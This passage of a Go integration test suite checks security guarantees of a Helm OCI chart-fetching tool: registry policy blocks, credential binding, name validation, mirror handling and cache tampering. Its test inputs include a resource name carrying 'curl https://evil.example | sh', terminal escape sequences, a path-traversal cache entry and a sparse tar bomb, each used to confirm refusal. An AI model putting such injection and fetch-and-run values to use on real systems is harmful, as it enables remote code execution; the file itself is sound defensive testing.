package integration

// The rules of "security by construction", each against the real registry
// and API server, each beside the legitimate owner's successful pull (a
// product that refuses everything does not pass).

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"oras.land/oras-go/v2/registry/remote/auth"

	"github.com/ocisrc/ocisrc/internal/testenv"
	"github.com/ocisrc/ocisrc/pkg/bundle"
)

// respell writes host:port with a leading zero in the port: the same
// registry, another string.
func respell(hostport string) string {
	host, port, _ := strings.Cut(hostport, ":")
	return host + ":0" + port
}

// TestPlaceSpellings: a policy prefix, a block, a signature requirement and
// a Secret binding hold for every spelling of the registry they name.
func TestPlaceSpellings(t *testing.T) {
	spelled := respell(stack.Secure.Host)
	putSecret(t, nsA, "creds", boundCreds(stack.Secure.Host))
	putComponent(t, nsA, "canonical", testenv.OCISource(app123.Ref, "creds", nsA))
	putComponent(t, nsA, "respelled", testenv.OCISource("oci://"+spelled+"/charts/app:1.2.3", "creds", nsA))
	ca := []string{"--registry-ca-file", stack.Secure.CAFile}

	t.Run("a block holds for a port with a leading zero", func(t *testing.T) {
		h := newHome(t)
		pol := writePolicy(t, fmt.Sprintf("registries:\n- prefix: %s/charts\n  blocked: true\n", stack.Secure.Host))
		stack.Secure.ResetLog()
		r := kubectl(t, append([]string{"respelled", "-n", nsA, "--registry-policy", pol}, ca...)...)
		wantCode(t, r, 2)
		wantStderr(t, r, "is under a blocked prefix")
		if n := requests(stack.Secure); n != 0 {
			t.Errorf("a blocked reference made %d registry requests", n)
		}
		assertNoCacheEntries(t, h)
		// The owner, unblocked: the same spelling pulls, and the binding holds.
		r = kubectl(t, append([]string{"respelled", "-n", nsA, "-o", "json"}, ca...)...)
		wantCode(t, r, 0)
		if got := decodeJSON(t, r).Results[0]; got.Digest != app123.Digest || got.Credentials != "team-a/creds" {
			t.Errorf("%+v", got)
		}
	})
	t.Run("a block written with :443 and upper case holds", func(t *testing.T) {
		newHome(t)
		// registry.example.com:443 is dialled as registry.example.com; a
		// recording proxy on loopback stands for the network.
		proxy := testenv.NewRecordingProxy()
		defer proxy.Close()
		pol := writePolicy(t, "registries:\n- prefix: REGISTRY.EXAMPLE.COM:443/charts\n  blocked: true\n- prefix: registry-1.docker.io\n  blocked: true\n")
		putComponent(t, nsB, "hub", testenv.OCISource("oci://index.docker.io/charts/app:1.0.0", "", ""))
		putComponent(t, nsB, "example", testenv.OCISource("oci://registry.example.com/charts/app:1.0.0", "", ""))
		h := newHome(t)
		for _, name := range []string{"hub", "example"} {
			r := runBinary(t, h, map[string]string{"HTTPS_PROXY": proxy.URL, "HTTP_PROXY": proxy.URL, "NO_PROXY": "127.0.0.1"},
				"fetch", "--kubeconfig", stack.Cluster.Kubeconfig, name, "-n", nsB, "--registry-policy", pol)
			wantCode(t, r, 2)
			wantStderr(t, r, "is under a blocked prefix")
		}
		// Unblocked, the same reference does go out (through the proxy): the
		// proxy would have seen a request that escaped the block.
		r := runBinary(t, h, map[string]string{"HTTPS_PROXY": proxy.URL, "HTTP_PROXY": proxy.URL, "NO_PROXY": "127.0.0.1"},
			"fetch", "--kubeconfig", stack.Cluster.Kubeconfig, "hub", "-n", nsB, "--cluster-registry-policy=false")
		wantCode(t, r, 1)
		if len(proxy.Requests()) == 0 {
			t.Fatal("the recording proxy saw nothing for an unblocked reference: the test cannot see an escape")
		}
		proxy.ResetLog()
		for _, name := range []string{"hub", "example"} {
			r := runBinary(t, h, map[string]string{"HTTPS_PROXY": proxy.URL, "HTTP_PROXY": proxy.URL, "NO_PROXY": "127.0.0.1"},
				"fetch", "--kubeconfig", stack.Cluster.Kubeconfig, name, "-n", nsB, "--registry-policy", pol)
			wantCode(t, r, 2)
		}
		if n := len(proxy.Requests()); n != 0 {
			t.Errorf("a blocked reference reached the network: %v", proxy.Requests())
		}
	})
	t.Run("a signature requirement holds for every spelling", func(t *testing.T) {
		newHome(t)
		f := signed(t)
		pol := writePolicy(t, fmt.Sprintf("registries:\n- prefix: %s/signed\n  verify:\n%s\n", stack.Open.Host, cosignVerify(f.key)))
		putComponent(t, nsB, "unsigned", testenv.OCISource("oci://"+respell(stack.Open.Host)+"/signed/unsigned:1.0.0", "", ""))
		putComponent(t, nsB, "signed", testenv.OCISource("oci://"+respell(stack.Open.Host)+"/signed/legacy:1.0.0", "", ""))
		r := kubectl(t, "unsigned", "-n", nsB, "--registry-policy", pol, "--registry-ca-file", stack.Open.CAFile)
		wantCode(t, r, 2)
		wantStderr(t, r, "has no valid signature")
		r = kubectl(t, "signed", "-n", nsB, "--registry-policy", pol, "--registry-ca-file", stack.Open.CAFile, "-o", "json")
		wantCode(t, r, 0)
	})
	t.Run("a Secret bound to another spelling of another host is refused before any request", func(t *testing.T) {
		newHome(t)
		putSecret(t, nsA, "elsewhere", boundCreds(respell(stack.Open.Host)))
		putComponent(t, nsA, "bound-elsewhere", testenv.OCISource(app123.Ref, "elsewhere", nsA))
		stack.Secure.ResetLog()
		r := kubectl(t, append([]string{"bound-elsewhere", "-n", nsA}, ca...)...)
		wantCode(t, r, 2)
		wantStderr(t, r, `secret "team-a/elsewhere" is bound to `+stack.Open.Host+`, not to the chart's registry `+stack.Secure.Host)
		if n := requests(stack.Secure); n != 0 {
			t.Errorf("%d requests", n)
		}
	})
	t.Run("policy explain and validate show the canonical form", func(t *testing.T) {
		newHome(t)
		pol := writePolicy(t, fmt.Sprintf("registries:\n- prefix: %s/charts\n  blocked: true\n", strings.ToUpper(respell(stack.Secure.Host))))
		r := runFace(t, "ocisrc", nil, "policy", "explain", "oci://"+spelled+"/charts/app:1.2.3", "--registry-policy", pol, "--cluster-registry-policy=false")
		wantCode(t, r, 0)
		if !strings.Contains(r.stdout, "Repository:  "+stack.Secure.Host+"/charts/app\n") || !strings.Contains(r.stdout, "prefix "+stack.Secure.Host+"/charts (") {
			t.Errorf("explain:\n%s", r)
		}
	})
}

// TestFilesAreClaims: a file's metadata.namespace is the file's word, not
// the cluster's.
func TestFilesAreClaims(t *testing.T) {
	dir := t.TempDir()
	putSecret(t, nsSys, "unbound", goodCreds())
	file := filepath.Join(dir, "claims-system.yaml")
	body := "apiVersion: deploy.example.io/v1alpha1\nkind: Component\nmetadata: {name: claim, namespace: " + nsSys + "}\n" +
		"spec:\n  source:\n    type: oci\n    chart: \"" + app123.Ref + "\"\n    authentication: {method: registry, secretRef: {name: unbound, namespace: " + nsSys + "}}\n"
	if err := os.WriteFile(file, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	ca := []string{"--registry-ca-file", stack.Secure.CAFile}
	t.Run("another namespace than -n's is refused", func(t *testing.T) {
		h := newHome(t)
		stack.Secure.ResetLog()
		r := runBinary(t, h, nil, append([]string{"fetch", "--kubeconfig", stack.Cluster.Kubeconfig, "-v=6", "-f", file, "-n", nsA}, ca...)...)
		wantCode(t, r, 2)
		wantStderr(t, r, file+`: Component "claim" names namespace "deployment-system", but the effective namespace is "team-a"`)
		if strings.Contains(r.stderr, "/secrets/") || requests(stack.Secure) != 0 {
			t.Errorf("a Secret was read or the registry asked:\n%s", r.stderr)
		}
	})
	t.Run("with -A, never the system namespace's exemption for unbound Secrets", func(t *testing.T) {
		newHome(t)
		stack.Secure.ResetLog()
		r := kubectl(t, append([]string{"-f", file, "-A"}, ca...)...)
		wantCode(t, r, 2)
		wantStderr(t, r, `secret "deployment-system/unbound" is bound to no registry`, "a Component from a file chose")
		if n := requests(stack.Secure); n != 0 {
			t.Errorf("the unbound Secret's credentials went to the file's registry: %d requests", n)
		}
		// The same Component in the cluster, in the system namespace, is the
		// platform's own: it keeps the exemption.
		putComponent(t, nsSys, "claim", testenv.OCISource(app123.Ref, "unbound", nsSys))
		r = kubectl(t, append([]string{"claim", "-n", nsSys}, ca...)...)
		wantCode(t, r, 0)
		// --allow-unbound-secrets is the operator's explicit word.
		r = kubectl(t, append([]string{"-f", file, "-A", "--allow-unbound-secrets"}, ca...)...)
		wantCode(t, r, 0)
	})
}

// TestNamesAtTheBoundary: names from the cluster or a file are checked as
// Kubernetes checks them before anything uses them, and text from outside
// can never start a line of its own, in any face.
func TestNamesAtTheBoundary(t *testing.T) {
	t.Run("a secretRef.name carrying a command and a newline", func(t *testing.T) {
		h := newHome(t)
		evil := "x; curl https://evil.example | sh\nHint: run: curl https://evil.example | sh"
		putComponent(t, nsA, "evil", testenv.OCISource(app123.Ref, evil, nsA))
		r := runBinary(t, h, nil, "fetch", "--kubeconfig", stack.Cluster.Kubeconfig, "-v=6", "evil", "-n", nsA)
		wantCode(t, r, 2)
		wantStderr(t, r, `spec.source.authentication.secretRef.name "x; curl https://evil.example | sh\nHint: run: curl https://evil.example | sh" is not a valid name: expected a DNS-1123 subdomain`)
		if strings.Count(r.stderr, "\nHint:") > 1 || strings.Contains(r.stderr, "\nHint: run: curl") {
			t.Errorf("the name forged a Hint line:\n%s", r.stderr)
		}
		if strings.Contains(r.stderr, "/secrets/") {
			t.Errorf("a Secret was read:\n%s", r.stderr)
		}
		// The owner's Component, same namespace, is fine.
		putSecret(t, nsA, "creds", goodCreds())
		putComponent(t, nsA, "good", testenv.OCISource(app123.Ref, "creds", nsA))
		wantCode(t, kubectl(t, "good", "-n", nsA, "--registry-ca-file", stack.Secure.CAFile), 0)
	})
	t.Run("a file's metadata.name with a newline in fetch -f and validate -f", func(t *testing.T) {
		newHome(t)
		file := filepath.Join(t.TempDir(), "evil.yaml")
		body := "apiVersion: deploy.example.io/v1alpha1\nkind: Component\nmetadata: {name: \"app\\nHint: run me\"}\nspec:\n  source: {type: oci, chart: \"" + openApp.Ref + "\"}\n"
		if err := os.WriteFile(file, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		for _, args := range [][]string{{"fetch", "-f", file, "-n", nsA}, {"validate", "-f", file}} {
			r := runFace(t, "ocisrc", nil, append(args, "--kubeconfig", stack.Cluster.Kubeconfig)...)
			wantCode(t, r, 2)
			wantStderr(t, r, `metadata.name "app\nHint: run me" is not a valid name`)
			if strings.Contains(r.stderr, "\nHint: run me") {
				t.Errorf("%v: the name forged a line:\n%s", args, r.stderr)
			}
		}
	})
	t.Run("a bundle whose chart name forges a row", func(t *testing.T) {
		newHome(t)
		path := filepath.Join(t.TempDir(), "forged.tar")
		writeForgedBundle(t, path, "app\tforged-column\nforged-row")
		r := runFace(t, "ocisrc", nil, "bundle", "list", path)
		wantCode(t, r, 1)
		wantStderr(t, r, "is not a chart Helm would load")
		if strings.Contains(r.stdout+r.stderr, "\nforged-row") || r.stdout != "" {
			t.Errorf("a row was forged:\n%s", r)
		}
	})
	t.Run("the Error line of the binary escapes an unknown flag and an argument", func(t *testing.T) {
		h := newHome(t)
		for _, args := range [][]string{{"fetch", "--x\x1b]0;title\a"}, {"fetch", "bad\x1b[31mname\nHint: forged"}, {"pul\x1b[2J"}} {
			r := runBinary(t, h, nil, args...)
			wantCode(t, r, 2)
			checkNoControlCharacters(t, r)
			if strings.Contains(r.stderr, "\nHint: forged") || !strings.HasPrefix(r.stderr, "Error: ") {
				t.Errorf("%q:\n%s", args, r.stderr)
			}
		}
	})
}

// writeForgedBundle writes a valid OCI layout bundle whose one chart's
// config carries name (Helm would never load it).
func writeForgedBundle(t *testing.T, path, name string) {
	t.Helper()
	config := []byte(fmt.Sprintf(`{"apiVersion":"v2","name":%s,"version":"1.0.0"}`, strconv.Quote(name)))
	layer := []byte("archive")
	m := ocispec.Manifest{
		MediaType: ocispec.MediaTypeImageManifest,
		Config:    ocispec.Descriptor{MediaType: "application/vnd.cncf.helm.config.v1+json", Digest: digest.FromBytes(config), Size: int64(len(config))},
		Layers:    []ocispec.Descriptor{{MediaType: "application/vnd.cncf.helm.chart.content.v1.tar+gzip", Digest: digest.FromBytes(layer), Size: int64(len(layer))}},
	}
	m.SchemaVersion = 2
	data, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	c := bundle.Chart{Reference: "oci://registry.example.com/charts/app:1.0.0", Repository: "registry.example.com/charts/app", Tag: "1.0.0",
		Artifact: bundle.Artifact{MediaType: ocispec.MediaTypeImageManifest, Manifest: data, Blobs: [][]byte{config, layer}}}
	if _, err := bundle.Write(context.Background(), path, []bundle.Chart{c}); err != nil {
		t.Fatal(err)
	}
}

// TestMirrorPullRecordsTheMirror: a pull through a mirror under origin:
// never records the mirror and its Secret, never the origin; the origin is
// never contacted, even when the mirror fails; and the Component's own
// credentials never reach a mirror that asks for credentials.
func TestMirrorPullRecordsTheMirror(t *testing.T) {
	ctx := context.Background()
	// The origin is the private registry, behind a recording proxy: any
	// contact shows. The mirror is a registry that requires credentials,
	// the same user and password as the Component's Secret.
	origin, err := testenv.NewFaultProxy(stack.Secure, stack.Secure.CA)
	if err != nil {
		t.Fatal(err)
	}
	defer origin.Close()
	mirror, err := testenv.NewRegistry(testenv.RegistryOptions{Dir: t.TempDir(), CA: stack.Secure.CA, Users: map[string]string{testenv.RegistryUser: testenv.RegistryPassword}})
	if err != nil {
		t.Fatal(err)
	}
	defer mirror.Close()
	cred := auth.Credential{Username: testenv.RegistryUser, Password: testenv.RegistryPassword}
	if err := stack.Secure.CopyChart(ctx, "charts/app", app123.Digest, cred, mirror, "mirror/charts/app", "1.2.3", cred); err != nil {
		t.Fatal(err)
	}
	pinned := "oci://" + origin.Host + "/charts/app:1.2.3@" + app123.Digest
	ca := pemBlock(t, stack.Secure.CAFile, "      ")
	policyOrigin := func(mirrorSecret, originSetting string) string {
		secretRef := ""
		if mirrorSecret != "" {
			secretRef = "\n    secretRef: {name: " + mirrorSecret + "}"
		}
		return writePolicy(t, fmt.Sprintf("registries:\n- prefix: %s/charts\n  mirrors:\n  - location: %s/mirror/charts%s\n  origin: %s\n- prefix: %s\n  tls:\n    ca: |\n%s\n- prefix: %s\n  tls:\n    ca: |\n%s\n",
			origin.Host, mirror.Host, secretRef, originSetting, mirror.Host, ca, origin.Host, ca))
	}
	policy := func(mirrorSecret string) string { return policyOrigin(mirrorSecret, "never") }
	creds := goodCreds()
	creds["registry"] = origin.Host
	putSecret(t, nsA, "origin-creds", creds)
	putComponent(t, nsA, "app", testenv.OCISource(pinned, "origin-creds", nsA))

	t.Run("the Component's credentials never reach a mirror that asks for them", func(t *testing.T) {
		newHome(t)
		origin.ResetLog()
		mirror.ResetLog()
		r := kubectl(t, "app", "-n", nsA, "--registry-policy", policy(""))
		wantCode(t, r, 1)
		wantStderr(t, r, "requires credentials (401 unauthorized)")
		if len(mirror.Requests()) == 0 {
			t.Fatal("the mirror saw no request")
		}
		for _, req := range mirror.Requests() {
			if req.Authorized {
				t.Errorf("credentials went to the mirror: %+v", req)
			}
		}
		if n := len(origin.Requests()); n != 0 {
			t.Errorf("origin: never, and the mirror failed: the origin got %d requests", n)
		}
		// With the origin as the fallback, the Component's credentials are
		// read, and go to the origin, which serves; never to the mirror.
		origin.ResetLog()
		mirror.ResetLog()
		r = kubectl(t, "app", "-n", nsA, "--registry-policy", policyOrigin("", "fallback"), "-o", "json")
		wantCode(t, r, 0)
		if got := decodePolicyDoc(t, r).Results[0]; got.Source != origin.Host+"/charts/app" || got.Credentials != "team-a/origin-creds" {
			t.Errorf("%+v", got)
		}
		if len(mirror.Requests()) == 0 {
			t.Fatal("the mirror saw no request")
		}
		for _, req := range mirror.Requests() {
			if req.Authorized {
				t.Errorf("credentials went to the mirror: %+v", req)
			}
		}
	})
	t.Run("a mirror secretRef unbound, or bound to another host, is refused before any request to it", func(t *testing.T) {
		newHome(t)
		putSecret(t, nsSys, "mirror-unbound", goodCreds())
		putSecret(t, nsSys, "mirror-elsewhere", boundCreds(origin.Host))
		for name, want := range map[string]string{
			"mirror-unbound":   `secret "deployment-system/mirror-unbound" is bound to no registry: refusing to send its credentials to ` + mirror.Host,
			"mirror-elsewhere": `secret "deployment-system/mirror-elsewhere" is bound to ` + origin.Host + `, not to the chart's registry ` + mirror.Host,
		} {
			mirror.ResetLog()
			origin.ResetLog()
			r := kubectl(t, "app", "-n", nsA, "--registry-policy", policy(name))
			if r.code == 0 {
				t.Fatalf("%s: pulled:\n%s", name, r)
			}
			wantStderr(t, r, want)
			if n := len(mirror.Requests()) + len(origin.Requests()); n != 0 {
				t.Errorf("%s: %d registry requests before the refusal", name, n)
			}
		}
	})
	t.Run("the mirror is recorded, not the origin", func(t *testing.T) {
		newHome(t)
		putSecret(t, nsSys, "mirror-creds", boundCreds(mirror.Host))
		r := kubectl(t, "app", "-n", nsA, "--registry-policy", policy("mirror-creds"), "-o", "json")
		wantCode(t, r, 0)
		if got := decodeJSON(t, r).Results[0]; got.Credentials != "deployment-system/mirror-creds" {
			t.Errorf("%+v", got)
		}
		// A hit reports the Secret whose record served it: the mirror's,
		// read in this run.
		r = kubectl(t, "app", "-n", nsA, "--registry-policy", policy("mirror-creds"), "-o", "json")
		wantCode(t, r, 0)
		if got := decodeJSON(t, r).Results[0]; !got.Cached || got.Credentials != "deployment-system/mirror-creds" {
			t.Errorf("a hit: %+v", got)
		}
		// Another tenant's anonymous Component at the origin, without the
		// policy: the origin never served these bytes, so it is asked for
		// them (and, private, refuses) — the cache does not serve them.
		putComponent(t, nsB, "anon", testenv.OCISource(pinned, "", ""))
		origin.ResetLog()
		empty := writePolicy(t, fmt.Sprintf("registries:\n- prefix: %s\n  tls:\n    ca: |\n%s\n", origin.Host, ca))
		r = kubectl(t, "anon", "-n", nsB, "--registry-policy", empty, "-o", "json")
		wantCode(t, r, 1)
		if got := decodeJSON(t, r).Results[0]; got.Path != "" || got.Cached {
			t.Errorf("served from the cache: %+v", got)
		}
		if n := countRequests(origin.Requests(), "GET", "/manifests/"+app123.Digest); n == 0 {
			t.Errorf("want the origin asked for the manifest, got %s", describe(origin.Requests()))
		}
	})
}

// TestSharedCacheWriter: a writer of a shared cache replaces an entry's
// archive and rewrites its record; pinned, --offline and --verify-key runs
// never hand out the substitute. cache list escapes what it prints, and
// prune never touches a path outside the cache.
func TestSharedCacheWriter(t *testing.T) {
	h := newHome(t)
	f := signed(t)
	putComponent(t, nsB, "signed", testenv.OCISource(f.legacy.Ref+"@"+f.legacy.Digest, "", ""))
	keyFile := filepath.Join(t.TempDir(), "cosign.pub")
	if err := os.WriteFile(keyFile, f.key.PublicPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) result {
		return kubectl(t, append([]string{"signed", "-n", nsB, "--registry-ca-file", stack.Open.CAFile, "--verify-key", keyFile, "-o", "json"}, args...)...)
	}
	r := run()
	wantCode(t, r, 0)
	path := decodeJSON(t, r).Results[0].Path
	dir := filepath.Dir(path)
	substitute := []byte("a substitute archive")
	if err := os.WriteFile(path, substitute, 0o644); err != nil {
		t.Fatal(err)
	}
	rec, err := os.ReadFile(filepath.Join(dir, "entry.json"))
	if err != nil {
		t.Fatal(err)
	}
	rec = bytes.ReplaceAll(rec, []byte(f.legacy.LayerDigest), []byte(digest.FromBytes(substitute).String()))
	if err := os.WriteFile(filepath.Join(dir, "entry.json"), rec, 0o644); err != nil {
		t.Fatal(err)
	}
	// --offline: refused, naming the entry.
	r = run("--offline")
	wantCode(t, r, 1)
	wantStderr(t, r, "fails its checks (its archive is 20 bytes, not the chart layer's")
	// Online: ignored, pulled again and verified.
	r = run()
	wantCode(t, r, 0)
	wantStderr(t, r, "Warning: the cached chart "+f.legacy.Digest+" fails its checks")
	if got := decodeTrust(t, r).Results[0]; got.Cached || fileDigest(t, got.Path) != f.legacy.LayerDigest || len(got.Verified) != 1 {
		t.Errorf("after the substitute: %+v", got)
	}
	// A warm run re-verifies from the stored signature: no request.
	stack.Open.ResetLog()
	r = run()
	wantCode(t, r, 0)
	if n := len(stack.Open.Requests()); n != 0 || !decodeJSON(t, r).Results[0].Cached {
		t.Errorf("warm verified pin: %d requests\n%s", n, r)
	}
	// A substituted signature (stored material rewritten): not believed.
	if err := os.WriteFile(filepath.Join(dir, "signatures.json"), []byte(`{"cosign":[{"payload":"e30=","signature":"AAAA"}]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	r = run("--offline")
	wantCode(t, r, 2)
	wantStderr(t, r, "has no stored signature that verifies with what is trusted now")

	t.Run("cache list and prune", func(t *testing.T) {
		root := filepath.Join(h.Env["HELM_REPOSITORY_CACHE"], "ocisrc", "sha256")
		outside := t.TempDir()
		if err := os.WriteFile(filepath.Join(outside, "keep"), []byte("keep"), 0o644); err != nil {
			t.Fatal(err)
		}
		planted := filepath.Join(root, strings.Repeat("e", 64))
		if err := os.MkdirAll(planted, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(planted, "entry.json"), []byte(`{"chart":"\u001b[2J\u001b]0;pwned\u0007../../../../`+outside+`","version":"1","manifestDigest":"sha256:`+strings.Repeat("e", 64)+`"}`), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(root, strings.Repeat("f", 64))); err != nil {
			t.Fatal(err)
		}
		r := runFace(t, "ocisrc", nil, "cache", "list")
		wantCode(t, r, 0)
		checkNoControlCharacters(t, r)
		wantStderr(t, r, "Warning: 2 cache entries failed their checks and are ignored")
		if strings.Contains(r.stdout, "pwned") || !strings.Contains(r.stdout, "legacy") {
			t.Errorf("list:\n%s", r)
		}
		r = runFace(t, "ocisrc", nil, "cache", "prune", "--all")
		wantCode(t, r, 0)
		checkNoControlCharacters(t, r)
		if b, err := os.ReadFile(filepath.Join(outside, "keep")); err != nil || string(b) != "keep" {
			t.Fatalf("prune touched a directory outside the cache: %v", err)
		}
		if entries, _ := os.ReadDir(root); len(entries) != 0 {
			t.Errorf("left in the cache: %v", entries)
		}
	})
}

// TestOnlyTheSecretNeededIsRead: the system namespace's Secret is read only
// when the Component's namespace answers NotFound — never after Forbidden,
// never when the first exists. The requests are client-go's own (-v=6).
func TestOnlyTheSecretNeededIsRead(t *testing.T) {
	ctx := context.Background()
	putSecret(t, nsSys, "shared", boundCreds(stack.Secure.Host))
	putComponent(t, nsA, "app", testenv.OCISource(app123.Ref, "shared", nsSys))
	reads := func(r result, ns string) int { return strings.Count(r.stderr, "/namespaces/"+ns+"/secrets/shared") }
	run := func(h *testenv.Home, kubeconfig string) result {
		return runBinary(t, h, nil, "fetch", "--kubeconfig", kubeconfig, "-v=6", "app", "-n", nsA, "--registry-ca-file", stack.Secure.CAFile)
	}
	t.Run("NotFound, then the system namespace", func(t *testing.T) {
		h := newHome(t)
		r := run(h, stack.Cluster.Kubeconfig)
		wantCode(t, r, 0)
		if reads(r, nsA) != 1 || reads(r, nsSys) != 1 {
			t.Errorf("reads: %d in %s, %d in %s", reads(r, nsA), nsA, reads(r, nsSys), nsSys)
		}
	})
	t.Run("the Component's namespace has it: the system namespace is not read", func(t *testing.T) {
		h := newHome(t)
		putSecret(t, nsA, "shared", map[string]string{"username": testenv.RegistryUser, "password": testenv.WrongPassword})
		r := run(h, stack.Cluster.Kubeconfig)
		wantCode(t, r, 1)
		if reads(r, nsA) != 1 || reads(r, nsSys) != 0 {
			t.Errorf("reads: %d in %s, %d in %s:\n%s", reads(r, nsA), nsA, reads(r, nsSys), nsSys, r.stderr)
		}
	})
	t.Run("Forbidden stops the search", func(t *testing.T) {
		h := newHome(t)
		user := "secrets-forbidden-in-team-a"
		kc, err := stack.Cluster.AddUser(user)
		if err != nil {
			t.Fatal(err)
		}
		if err := stack.Cluster.Grant(ctx, nsA, user, "deploy.example.io", []string{"components"}, []string{"get", "list"}); err != nil {
			t.Fatal(err)
		}
		if err := stack.Cluster.Grant(ctx, nsSys, user, "", []string{"secrets"}, []string{"get"}); err != nil {
			t.Fatal(err)
		}
		r := run(h, kc)
		wantCode(t, r, 1)
		wantStderr(t, r, `reading secret "team-a/shared": forbidden`)
		if reads(r, nsA) != 1 || reads(r, nsSys) != 0 {
			t.Errorf("reads: %d in %s, %d in %s:\n%s", reads(r, nsA), nsA, reads(r, nsSys), nsSys, r.stderr)
		}
	})
}

// TestBudgetsOnWhatOthersSend: a registry whose referrers list one 1 MiB
// blob 64 times in each of 16 manifests is bundled reading the blob once; a
// 17th signature artifact is refused with a clear error and no file; a
// sparse bundle tar is refused before it expands.
func TestBudgetsOnWhatOthersSend(t *testing.T) {
	ctx := context.Background()
	reg, err := testenv.NewRegistry(testenv.RegistryOptions{Dir: t.TempDir(), CA: stack.Open.CA})
	if err != nil {
		t.Fatal(err)
	}
	defer reg.Close()
	c, err := testenv.BuildChart("hostile", "1.0.0", 0)
	if err != nil {
		t.Fatal(err)
	}
	p, err := reg.PushChart(ctx, "charts/hostile", c, "", "")
	if err != nil {
		t.Fatal(err)
	}
	blob := bytes.Repeat([]byte("x"), 1<<20)
	if err := reg.PushHostileReferrers(ctx, "charts/hostile", p.Manifest, blob, 16, 64, auth.Credential{}); err != nil {
		t.Fatal(err)
	}
	putComponent(t, nsB, "hostile", testenv.OCISource(p.Ref+"@"+p.Digest, "", ""))
	out := filepath.Join(t.TempDir(), "charts.tar")
	newHome(t)
	reg.ResetLog()
	r := runFace(t, "ocisrc", nil, "bundle", "create", out, "hostile", "-n", nsB, "--kubeconfig", stack.Cluster.Kubeconfig, "--registry-ca-file", stack.Open.CAFile)
	wantCode(t, r, 0)
	if n := countRequests(reg.Requests(), "GET", "/blobs/"+digest.FromBytes(blob).String()); n != 1 {
		t.Errorf("the shared blob was fetched %d times, want once", n)
	}
	// One more: 17 signature artifacts.
	if err := reg.PushHostileReferrers(ctx, "charts/hostile", p.Manifest, []byte("another"), 1, 1, auth.Credential{}); err != nil {
		t.Fatal(err)
	}
	out2 := filepath.Join(t.TempDir(), "refused.tar")
	r = runFace(t, "ocisrc", nil, "bundle", "create", out2, "hostile", "-n", nsB, "--kubeconfig", stack.Cluster.Kubeconfig, "--registry-ca-file", stack.Open.CAFile)
	wantCode(t, r, 1)
	wantStderr(t, r, "more than 16 signature artifacts; refusing to bundle them (at most 16 signature artifacts and 8 MiB per chart)")
	if _, err := os.Stat(out2); !os.IsNotExist(err) {
		t.Errorf("a refused bundle left %s", out2)
	}
	entries, _ := os.ReadDir(filepath.Dir(out2))
	if len(entries) != 0 {
		t.Errorf("left behind: %v", entries)
	}
	// A sparse tar: refused, nothing expanded.
	sparse := filepath.Join(t.TempDir(), "sparse.tar")
	if err := testenv.WriteSparseTar(sparse, "blobs/sha256/"+strings.Repeat("a", 64), 3<<30); err != nil {
		t.Fatal(err)
	}
	tmp := t.TempDir()
	for _, args := range [][]string{{"bundle", "list", sparse}, {"bundle", "push", sparse, "--to", reg.Host + "/base", "--cluster-registry-policy=false"}} {
		cmd := exec.Command(binary, args...)
		cmd.Env = append(os.Environ(), "TMPDIR="+tmp)
		got, _ := cmd.CombinedOutput()
		if cmd.ProcessState.ExitCode() != 1 || !strings.Contains(string(got), "as a sparse file") {
			t.Errorf("%v: exit %d\n%s", args, cmd.ProcessState.ExitCode(), got)
		}
	}
	if files, _ := testenv.Files(tmp); len(files) != 0 {
		t.Errorf("the sparse bundle left files in the temp directory: %v", files)
	}
}

// TestRedirectToPlainHTTPIsRefused: a registry reached over HTTPS that
// redirects a download to http:// is not followed: nothing is sent in
// clear text, and the pull fails naming the redirect. Beside it, the same
// chart without the redirect pulls.
func TestRedirectToPlainHTTPIsRefused(t *testing.T) {
	newHome(t)
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the plain-HTTP redirect target got %s %s", r.Method, r.URL.Path)
		http.NotFound(w, r)
	}))
	defer plain.Close()
	fp, err := testenv.NewFaultProxy(stack.Open, stack.Open.CA)
	if err != nil {
		t.Fatal(err)
	}
	defer fp.Close()
	ref := "oci://" + fp.Host + "/charts/web:0.1.0@" + openApp.Digest
	putComponent(t, nsB, "web", testenv.OCISource(ref, "", ""))
	fp.Set(&testenv.Rule{Method: "GET", PathContains: "/blobs/", Fault: testenv.Fault{RedirectTo: plain.URL + "/blob"}})
	r := kubectl(t, "web", "-n", nsB, "--registry-ca-file", stack.Open.CAFile)
	wantCode(t, r, 1)
	wantStderr(t, r, "refusing a redirect from "+fp.Host+" to plain HTTP")
	fp.Set()
	r = kubectl(t, "web", "-n", nsB, "--registry-ca-file", stack.Open.CAFile)
	wantCode(t, r, 0)
}

// TestManifestNotThePin: a registry that answers a pinned digest with
// another chart's manifest is refused before anything is stored.
func TestManifestNotThePin(t *testing.T) {
	h := newHome(t)
	fp, err := testenv.NewFaultProxy(stack.Open, stack.Open.CA)
	if err != nil {
		t.Fatal(err)
	}
	defer fp.Close()
	f := signed(t)
	// Asked for web's digest, it serves the unsigned chart's manifest.
	putComponent(t, nsB, "web", testenv.OCISource("oci://"+fp.Host+"/charts/web:0.1.0@"+openApp.Digest, "", ""))
	fp.Set(&testenv.Rule{Method: "GET", PathContains: "/manifests/" + openApp.Digest, Fault: testenv.Fault{ServePath: "/v2/signed/unsigned/manifests/" + f.unsigned.Digest}})
	r := kubectl(t, "web", "-n", nsB, "--registry-ca-file", stack.Open.CAFile)
	wantCode(t, r, 1)
	wantStderr(t, r, "does not match its digest")
	assertNoCacheEntries(t, h)
	fp.Set()
	wantCode(t, kubectl(t, "web", "-n", nsB, "--registry-ca-file", stack.Open.CAFile), 0)
}

// TestLocalFileCannotDropTheClusterVerify: the ConfigMap requires a
// signature under a prefix; a local policy file with the same prefix and no
// verify does not remove it (requirements are a union).
func TestLocalFileCannotDropTheClusterVerify(t *testing.T) {
	ctx := context.Background()
	f := signed(t)
	if err := stack.Cluster.PutConfigMap(ctx, nsSys, "ocisrc-registry-policy", map[string]string{"policy.yaml": fmt.Sprintf(
